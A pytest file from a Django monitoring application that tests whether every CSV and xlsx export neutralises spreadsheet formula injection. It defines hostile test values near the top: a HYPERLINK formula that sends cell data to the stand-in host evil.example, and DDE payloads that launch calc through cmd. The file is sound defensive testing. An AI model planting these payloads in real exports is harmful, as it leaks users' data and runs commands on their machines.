"""Formula injection in exports (issue 13, vulnerability 3; OWASP "CSV injection").

A text value that starts with =, +, -, @, a tab or a carriage return must never become a
live formula in a downloaded spreadsheet. core/exporters.py is the one writer: in .xlsx
such text is an explicit string cell (with Excel's quote prefix), in .csv it gets a
leading single quote; numbers stay numbers.

`test_every_export_is_covered` finds every call of the writer in the code (AST) and fails
when an export has no entry in EXPORTS below; each entry is then fetched as a user would,
on a world whose names and answers are hostile, and checked cell by cell.
"""

import ast
import csv
import datetime
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.core.cache import cache
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

import clustermonitor
from clustermonitor.core.exporters import Sheet, csv_bytes, csv_safe, workbook_bytes
from tests import matrix_objects as objects
from tests.conftest import CLUSTER_A
from tests.source_tree import parsed

PACKAGE = Path(clustermonitor.__file__).parent
WRITERS = {"xlsx_response", "workbook_bytes", "csv_response", "csv_bytes"}

# One hostile value per trigger; '=' is the one openpyxl turns into a formula by itself.
EQUALS = '=HYPERLINK("https://evil.example/?d="&A1,"Klik")'
HOSTILE = [
    EQUALS,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r=1+1",
]
MARK = "HYPERLINK"  # every export must show at least one cell derived from EQUALS


# -- the writer itself ---------------------------------------------------------------


def _formulas(data: bytes) -> list[str]:
    """Every <f> element (a formula) in any worksheet of the workbook."""
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                found += re.findall(r"<f[ >].*?</f>", archive.read(name).decode("utf-8"))
    return found


def test_xlsx_keeps_hostile_text_as_text_and_numbers_as_numbers():
    rows = [[value, -5, 1.5, "-5", "plain"] for value in HOSTILE]
    data = workbook_bytes([Sheet("T", ["=A", "b", "c", "d", "e"], rows)])
    assert _formulas(data) == []
    ws = load_workbook(io.BytesIO(data)).active
    assert ws["A1"].value == "=A" and ws["A1"].data_type == "s"
    for index, value in enumerate(HOSTILE, start=2):
        cell = ws.cell(row=index, column=1)
        # XML reads a carriage return back as a line feed; the cell is text either way.
        assert (cell.value, cell.data_type) == (value.replace("\r", "\n"), "s"), index
        assert cell.quotePrefix  # stays text when the cell is edited in Excel
        assert ws.cell(row=index, column=2).value == -5  # a number stays a number
        assert ws.cell(row=index, column=2).data_type == "n"
        assert ws.cell(row=index, column=4).value == "-5"  # text stays text
        assert ws.cell(row=index, column=4).data_type == "s"
        assert not ws.cell(row=index, column=5).quotePrefix


def test_csv_prefixes_hostile_text_with_a_quote_and_leaves_numbers():
    data = csv_bytes(["=h", "n"], [[value, -5] for value in HOSTILE] + [["-5", 3], ["ok", 0]])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["'=h", "n"]
    assert [r[0] for r in rows[1:7]] == ["'" + v for v in HOSTILE]
    assert {r[1] for r in rows[1:7]} == {"-5"}  # the number -5 is written as it is
    assert rows[7] == ["'-5", "3"] and rows[8] == ["ok", "0"]
    assert csv_safe(-5) == -5 and csv_safe(None) is None


# -- every export goes through the writer ----------------------------------------------


def _call_sites() -> set[str]:
    """'app/module.py:function' for every top-level function that calls the writer."""
    sites = set()
    for path in PACKAGE.rglob("*.py"):
        relative = path.relative_to(PACKAGE).as_posix()
        if relative == "core/exporters.py" or "migrations" in path.parts:
            continue
        tree = parsed(path)
        for top in tree.body:
            if not isinstance(top, ast.FunctionDef | ast.AsyncFunctionDef):
                continue
            for node in ast.walk(top):
                if isinstance(node, ast.Call):
                    func = node.func
                    name = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
                    if name in WRITERS:
                        sites.add(f"{relative}:{top.name}")
    return sites


def test_no_module_writes_spreadsheets_on_its_own():
    offenders = []
    for path in PACKAGE.rglob("*.py"):
        relative = path.relative_to(PACKAGE).as_posix()
        if relative == "core/exporters.py":
            continue
        tree = parsed(path)
        for node in ast.walk(tree):
            if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"):
                names = {alias.name for alias in node.names}
                # Reading is not writing: the tabular reader uses openpyxl's parser.
                reader = relative == "core/tabular.py" and not node.module.startswith(
                    "openpyxl.writer"
                )
                if names - {"load_workbook"} and not reader:
                    offenders.append(f"{relative}: from {node.module} import {sorted(names)}")
            if (
                isinstance(node, ast.Attribute)
                and node.attr in {"writer", "DictWriter"}
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ):
                offenders.append(f"{relative}: csv.{node.attr}")
    assert not offenders, f"write spreadsheets through core/exporters.py: {offenders}"


def _get(path, **query):
    def fetch(client):
        return [client.get(path(), query)]

    return fetch


def _xlsx_format(path):
    return _get(path, format="xlsx")


def _hostile_reference(client):
    """A cluster's benchmark with a reference quartile whose source is hostile."""
    from clustermonitor.maturity.models_ladder import BenchmarkReference
    from clustermonitor.programmes.models import Cluster

    cluster = Cluster.objects.get(code=CLUSTER_A)
    BenchmarkReference.objects.create(
        programme=cluster.programme,
        indicator="members",
        source=EQUALS,
        published_on=datetime.date(2000, 1, 1),
        q1=1,
        median=2,
        q3=3,
    )
    path = reverse("programmes:cluster-benchmark", args=[CLUSTER_A])
    return [client.get(path, {"format": "xlsx"})]


def _report_workbook(client):
    """The evaluation report's workbook, rendered from a document with hostile cells."""
    from clustermonitor.reports import render
    from clustermonitor.reports.document import Document, Section, Table

    section = Section("reach", "Bereik").add(
        Table("table7", "Leden", ["Cluster", "n"], [[EQUALS, 3], [HOSTILE[2], -2]], notes=[EQUALS])
    )
    document = Document(
        title="Evaluatie",
        subtitle="Programma",
        as_of=datetime.date(2020, 1, 31),
        lang="nl",
        cluster_codes=[CLUSTER_A],
        sections=[section],
    )
    return [render.render_xlsx(document)]


def _invoices(client):
    """The invoice list of cluster A as csv and xlsx, with an invoice to a member."""
    from clustermonitor.billing.models import Invoice
    from clustermonitor.programmes.models import Cluster

    Invoice.objects.create(
        cluster=Cluster.objects.get(code=CLUSTER_A),
        organisation=objects.membership().organisation,
        year=2018,
        vat_regime="standard",
    )
    url = reverse("billing:invoice-list", args=[CLUSTER_A])
    return [client.get(url, {"format": "csv"}), client.get(url, {"format": "xlsx"})]


def _registrations(client):
    from clustermonitor.registrations.models import Registration

    event = objects.registration_event()
    question = event.registration_settings.questions.get()
    Registration.objects.filter(activity=event).update(
        name=EQUALS,
        company_name=HOSTILE[1],
        email="=x@evil.example",
        answers={str(question.pk): {"question": EQUALS, "answer": HOSTILE[3]}},
    )
    url = reverse("registrations:event-download", args=[event.pk])
    return [client.get(url, {"format": "csv"}), client.get(url, {"format": "xlsx"})]


def _prospects(client):
    """Cluster A's pipeline as csv and xlsx: a prospect whose company, contact person and
    next step are hostile."""
    from clustermonitor.prospects.models import Prospect

    Prospect.objects.filter(pk=objects.prospect().pk).update(
        company_name=EQUALS,
        contact_name=HOSTILE[1],
        contact_email="=x@evil.example",
        contact_phone=HOSTILE[2],
        next_step=HOSTILE[3],
        note=HOSTILE[4],
    )
    url = reverse("prospects:pipeline-download", args=[CLUSTER_A])
    return [client.get(url, {"format": "csv"}), client.get(url, {"format": "xlsx"})]


def _payment_schedule(client):
    """The payment schedule (csv and xlsx) with cluster A's agreement: hostile cluster
    names and a hostile condition in the reason of a tranche that waits for it."""
    from clustermonitor.agreements.models import Condition, Tranche
    from tests.matrix_routes_agreements import agreement

    found = agreement()
    Condition.objects.filter(agreement=found).update(description=EQUALS)
    Tranche.objects.filter(agreement=found, number=1).update(condition=found.conditions.get())
    url = reverse("agreements:list")
    return [client.get(url, {"format": "csv"}), client.get(url, {"format": "xlsx"})]


def _ranking(client):
    """The jury's ranking (issue 19) as csv and xlsx: hostile applicants and titles, a
    hostile rubric criterion's name as a column."""
    from clustermonitor.programmes.models import Application
    from clustermonitor.review.models import RubricCriterion

    call = objects.review_call()
    Application.objects.filter(call=call).update(applicant=EQUALS, title=HOSTILE[1])
    RubricCriterion.objects.filter(call=call).update(name=HOSTILE[3])
    url = reverse("review:ranking", args=[call.pk])
    return [client.get(url, {"format": "csv"}), client.get(url, {"format": "xlsx"})]


EXPORTS = {
    # The payment schedule for the bookkeeping (issue 19): one row per tranche.
    "agreements/views.py:agreement_list": _payment_schedule,
    "billing/views.py:invoice_list": _invoices,
    # Cluster A's pipeline (csv and xlsx): hostile company, contact and next step.
    "prospects/views.py:pipeline_download": _prospects,
    "review/views.py:ranking": _ranking,
    "members/views.py:member_list_xlsx": _get(
        lambda: reverse("members:member-list-xlsx", args=[CLUSTER_A])
    ),
    "core/imports/views.py:import_rejected": _get(
        lambda: reverse("members:import-rejected", args=[_member_batch().pk])
    ),
    "programmes/views.py:portfolio_xlsx": _get(lambda: reverse("programmes:portfolio-xlsx")),
    "collaborations/views.py:collaboration_list": _xlsx_format(
        lambda: reverse("collaborations:collaboration-list", args=[CLUSTER_A])
    ),
    "collaborations/views_analysis.py:kpi3_cluster": _xlsx_format(
        lambda: reverse("collaborations:kpi3-cluster", args=[CLUSTER_A])
    ),
    "collaborations/views_analysis.py:programme_overview": _xlsx_format(
        lambda: reverse("collaborations:programme")
    ),
    "collaborations/views_analysis.py:intercluster_overview": _xlsx_format(
        lambda: reverse("collaborations:intercluster")
    ),
    "collaborations/views_network.py:programme_network": _xlsx_format(
        lambda: reverse("collaborations:network")
    ),
    "collaborations/views_network.py:cluster_network": _xlsx_format(
        lambda: reverse("collaborations:cluster-network", args=[CLUSTER_A])
    ),
    "monitoring/views_dashboard.py:dashboard": _xlsx_format(
        lambda: reverse("monitoring:dashboard")
    ),
    "monitoring/views_published.py:published_vs_computed": _xlsx_format(
        lambda: reverse("monitoring:published")
    ),
    "members/views_reach.py:_render": _xlsx_format(lambda: reverse("members:reach")),
    "members/views_figures.py:cofinancing_cluster": _xlsx_format(
        lambda: reverse("members:cofinancing", args=[CLUSTER_A])
    ),
    "members/views_figures.py:cofinancing_programme": _xlsx_format(
        lambda: reverse("members:table8")
    ),
    "members/views_figures.py:kpi_page": _xlsx_format(lambda: reverse("members:kpis")),
    "surveys/views_waves.py:wave_mail_merge_xlsx": _get(
        lambda: reverse("surveys:wave-mail-merge-xlsx", args=[objects.wave().pk])
    ),
    "surveys/views_waves.py:wave_mail_merge_csv": _get(
        lambda: reverse("surveys:wave-mail-merge-csv", args=[objects.wave().pk])
    ),
    "surveys/views_waves.py:wave_tracking_xlsx": _get(
        lambda: reverse("surveys:wave-tracking-xlsx", args=[objects.wave().pk])
    ),
    "surveys/views_waves.py:import_rejected": _get(
        lambda: reverse(
            "surveys:response-import-rejected", args=[objects.wave().pk, _survey_upload()]
        )
    ),
    "surveys/views_analysis.py:_render": _xlsx_format(
        lambda: reverse("surveys:wave-results", args=[objects.wave().pk])
    ),
    "surveys/views_analysis.py:raw_identities": _get(
        lambda: reverse("surveys:wave-raw-identities", args=[objects.wave().pk])
    ),
    "surveys/views_analysis.py:raw_answers": _get(
        lambda: reverse("surveys:wave-raw-answers", args=[objects.wave().pk])
    ),
    "reports/render.py:render_xlsx": _report_workbook,
    # An event's registrations (csv and xlsx): hostile names, companies and answers.
    "registrations/views.py:event_download": _registrations,
    # The public open figures (no login): the members per cluster name each cluster.
    "portal/views_public.py:open_figure_csv": _get(
        lambda: reverse("portal:figure-csv", args=["members"])
    ),
    # The economic-impact estimate (issue 20): figures, cluster codes and group labels.
    "impact/views.py:_render": _xlsx_format(lambda: reverse("impact:effects")),
    # Live benchmarking (issue 21): cluster names (agency), a reference's source (cluster).
    "maturity/views_benchmark.py:programme_benchmark": _xlsx_format(
        lambda: reverse("programmes:benchmark")
    ),
    "maturity/views_benchmark.py:cluster_benchmark": _hostile_reference,
}


# Exports that show only codes, fixed labels and numbers on this small world (the network
# needs organisations shared between clusters; the figures pages name clusters by code):
# they are still checked for formulas and typed cells, the writer test covers their text.
WITHOUT_FREE_TEXT = {
    "collaborations/views_network.py:cluster_network",
    "collaborations/views_network.py:programme_network",
    "members/views_figures.py:cofinancing_cluster",
    "members/views_figures.py:cofinancing_programme",
    "monitoring/views_published.py:published_vs_computed",
    "members/views_reach.py:_render",
    "impact/views.py:_render",
}


def test_every_export_is_covered():
    sites = _call_sites()
    missing = sites - set(EXPORTS)
    stale = set(EXPORTS) - sites
    assert not missing, f"exports without a hostile-value test: {sorted(missing)}"
    assert not stale, f"EXPORTS entries for exports that no longer exist: {sorted(stale)}"


def test_the_call_site_finder_sees_a_writer_call():
    # The coverage check above must be able to fail: a new export is found.
    assert "members/views.py:member_list_xlsx" in _call_sites()
    assert "surveys/views_waves.py:wave_mail_merge_csv" in _call_sites()


# -- the hostile world ---------------------------------------------------------------


def _member_batch():
    from django.core.files.base import ContentFile

    from clustermonitor.core.imports.models import ImportBatch
    from clustermonitor.programmes.models import Cluster

    batch = ImportBatch(
        cluster=Cluster.objects.get(code=CLUSTER_A),
        original_name="hostile.csv",
        sha256="y",
        reference_date="2019-01-01",
        mapping={"name": "naam", "enterprise_number": "ondernemingsnummer"},
    )
    content = f'naam;ondernemingsnummer\n"{EQUALS.replace(chr(34), chr(34) * 2)}";=1+1\n'
    batch.file.save("hostile.csv", ContentFile(content.encode()), save=False)
    batch.save()
    return batch


def _survey_upload():
    from clustermonitor.surveys.imports import store_upload

    quoted = EQUALS.replace('"', '""')
    return store_upload(
        objects.wave(),
        f'id,submitdate,q2\n"{quoted}",not a date,"{quoted}"\n'.encode(),
        "hostile.csv",
        {"source": "limesurvey", "cluster": CLUSTER_A, "uploaded_by": "matrix"},
    )


@pytest.fixture
def hostile_world(db):
    from clustermonitor.activities.models import Activity
    from clustermonitor.collaborations.models import Collaboration
    from clustermonitor.members.models import Contact, Contribution, Membership
    from clustermonitor.programmes.models import Cluster
    from clustermonitor.registry.models import Organisation
    from clustermonitor.surveys.models import Invitation, Response

    objects.membership()
    contribution = objects.contribution()
    Contribution.objects.filter(pk=contribution.pk).update(
        status=Contribution.Status.PAID, paid_on=datetime.date(2018, 6, 1)
    )
    collaboration = objects.collaboration()
    partner = Organisation.objects.create(enterprise_number="0403170701", name="Partner NV")
    Membership.objects.create(
        organisation=partner, cluster=Cluster.objects.get(code=CLUSTER_A), start_date="2017-01-01"
    )
    collaboration.parties.create(organisation=partner)
    objects.activity()
    wave = objects.wave()
    Organisation.objects.update(name=EQUALS)
    Cluster.objects.update(name=EQUALS)
    Collaboration.objects.update(title=EQUALS)
    Activity.objects.update(title=EQUALS)
    Contact.objects.update(name=EQUALS, email="=x@evil.example")
    Invitation.objects.update(email="=x@evil.example")
    now = timezone.now()
    questions = [q["name"] for q in wave.questionnaire.questions if q.get("name")]
    Response.objects.create(
        wave=wave,
        invitation=wave.invitations.get(),
        source="web",
        answers={name: EQUALS for name in questions},
        profile={"cluster": CLUSTER_A},
        started_at=now,
        last_saved_at=now,
        completed_at=now,
    )
    cache.clear()  # kept pages and results were computed from the harmless names
    yield
    cache.clear()


def _cells(response) -> list[str]:
    """Every text cell of a downloaded export, after checking it holds no formula."""
    if isinstance(response, bytes):
        data, kind = response, "xlsx"
    else:
        assert response.status_code == 200, response.status_code
        data = response.content
        kind = "csv" if response["Content-Type"].startswith("text/csv") else "xlsx"
    if kind == "csv":
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
        cells = [cell for row in rows for cell in row]
        live = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
        assert not live, f"formula-like CSV cells: {live}"
        return cells
    assert _formulas(data) == [], "the workbook holds live formulas"
    workbook = load_workbook(io.BytesIO(data))
    cells = []
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
                    cells.append(cell.value)
    return cells


@pytest.mark.parametrize("site", sorted(EXPORTS))
def test_export_neutralises_a_hostile_value(site, hostile_world, client_for):
    persona = "evaluator" if "surveys/" in site else "programme_manager"
    responses = EXPORTS[site](client_for(persona))
    cells = [cell for response in responses for cell in _cells(response)]
    if site not in WITHOUT_FREE_TEXT:
        assert any(MARK in cell for cell in cells), f"{site}: the hostile value is not exported"
